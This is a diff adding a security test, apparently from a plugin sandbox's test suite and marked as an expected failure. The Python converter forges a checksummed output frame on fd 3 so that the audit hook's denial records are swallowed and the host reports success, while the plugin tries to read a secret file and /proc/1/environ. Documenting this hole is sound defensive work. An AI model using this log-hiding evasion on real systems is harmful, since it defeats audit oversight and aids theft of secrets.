@@ -1,0 +1,41 @@
+# escape: pure Python: open an OUTPUT frame on fd 3 whose length covers the audit hook's DENIED frames to come, so that they arrive as the bytes of an output file and the verdict misses them
+# layer: audit-hook, host
+# args: --skip-validation
+# expect: security
+# xfail: anything may be written to fd 3, and the frame header's checksum is no secret: the converter can wrap the hook's denials (or forge DONE) in pure Python. The forbidden actions stay refused; the verdict says completed. A record out of the converter's reach (a page the host maps and reads, counting denials) would close it
+import json
+import os
+import struct
+
+FRAME_DENIED, FRAME_OUTPUT = 33, 34
+
+
+def header(ftype, job_id, length):
+    h = struct.pack("<IHHQI", 0x46425643, ftype, 0, job_id, length)
+    c = 0x9E3779B9
+    for i in range(0, 20, 4):
+        c = ((c ^ struct.unpack_from("<I", h, i)[0]) * 0x01000193) & 0xFFFFFFFF
+    return h + struct.pack("<I", c)
+
+
+class WrapDenials:
+    def convert_file(self, file_path, args):
+        job_id = 1  # the only job of the run (no validation job before it)
+        targets = [args["secret"], "/proc/1/environ"]
+        wrapped = b""
+        for path in targets:
+            d = json.dumps({"action": "open", "target": path, "mode": "r", "capability": None,
+                            "layer": "audit-hook"}, separators=(",", ":")).encode()
+            wrapped += header(FRAME_DENIED, job_id, len(d)) + d
+        name = b"swallowed.bin"
+        os.write(3, header(FRAME_OUTPUT, job_id, 2 + len(name) + len(wrapped)) +
+                 struct.pack("<H", len(name)) + name)
+        tried = []
+        for path in targets:
+            try:
+                with open(path) as f:
+                    f.read()
+                tried.append("read")
+            except Exception as e:
+                tried.append(type(e).__name__)
+        return {"status": "Success", "report": {"tried": tried}}
